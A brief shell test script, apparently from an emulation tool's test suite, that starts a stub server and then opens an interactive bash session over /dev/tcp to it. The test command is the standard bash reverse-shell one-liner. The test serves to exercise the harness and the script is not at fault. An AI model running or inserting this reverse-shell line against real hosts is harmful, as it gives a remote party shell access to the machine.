#!/bin/sh
# Starts an interactive shell on a connection to a stub, which tells it to exit.
# Needs: bash
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

serve printf 'exit\n'
inside bash -c "bash -i >&/dev/tcp/$remote/$port 0>&1" </dev/null || :
